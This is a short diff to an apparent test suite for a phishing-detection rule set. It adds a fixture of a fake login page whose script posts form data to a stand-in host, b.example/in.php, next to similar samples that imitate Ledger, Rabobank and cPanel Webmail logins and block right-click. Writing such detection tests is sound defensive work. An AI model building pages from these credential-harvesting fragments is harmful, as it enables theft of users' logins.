@@ -109,6 +109,10 @@ describe('rules', () => {
     [pay, 'https://somebody.weebly.com/'],
     [pay.replace('x.php', 'https://other.example/x'), 'https://pay.site.example/'],
     [`${pay}<script>document.addEventListener('contextmenu',e=>e.preventDefault())</script>`, 'https://a.example/'],
+    [
+      `<title>Login</title><input type="password"><script>$.ajax({ url: 'https://b.example/in.php', data })</script>`,
+      'https://a.example/',
+    ],
     ['<title>Ledger</title><input type="password">', 'https://a.example/'],
     ['<title>Login</title><img alt="Rabobank"><input type="password">', 'https://a.example/'],
     ['<title>cPanel Webmail</title><form action="send.php"><input type="password"></form>', 'https://a.example/'],
